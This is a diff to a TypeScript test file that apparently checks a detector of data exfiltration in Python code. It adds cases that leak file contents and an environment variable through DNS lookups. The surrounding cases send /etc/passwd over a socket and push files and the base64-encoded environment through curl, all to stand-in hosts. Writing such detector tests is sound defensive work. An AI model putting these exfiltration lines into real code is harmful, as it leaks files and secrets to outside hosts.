@@ -226,6 +226,12 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import socket', "s = socket.create_connection(('collect.example', 9000))", "s.sendall(open('/etc/passwd').read().encode())"]),
         min: 'critical',
       },
+      {
+        name: 'file contents leaked in DNS names',
+        src: py(['import socket, binascii', "chunk = binascii.hexlify(open('/etc/hostname', 'rb').read()[:30]).decode()", "socket.gethostbyname(chunk + '.q.example.net')"]),
+        min: 'high',
+      },
+      { name: 'a variable of the environment leaked in a DNS name', src: py(['import os, socket', "socket.getaddrinfo(os.environ['CI_JOB_ID'] + '.ci.example.net', 443)"]), min: 'high' },
       { name: 'curl uploading a local file', src: py(['import os', "os.system('curl -F f=@/etc/hostname https://collect.example/u')"]), min: 'critical' },
       { name: 'the environment in a curl URL', src: py(['import os', 'os.system(\'curl "https://collect.example/e/$(env | base64 -w 0)"\')']), min: 'critical' },
       {
@@ -262,6 +268,7 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import os, urllib.request', "print('building on', os.popen('hostname').read())", "urllib.request.urlretrieve('https://github.com/org/dep/archive/v1.tar.gz', 'dep.tar.gz')"]),
         max: 'medium',
       },
+      { name: 'a database host named by the environment', src: py(['import os, socket', "socket.gethostbyname(os.environ.get('DB_HOST', 'localhost'))"]), max: 'medium' },
       { name: 'curl downloading to a file', src: py(['import os', "os.system('curl -fsSL -o deps.tar.gz https://github.com/org/deps/archive/v1.tar.gz')"]) },
     ],
   },
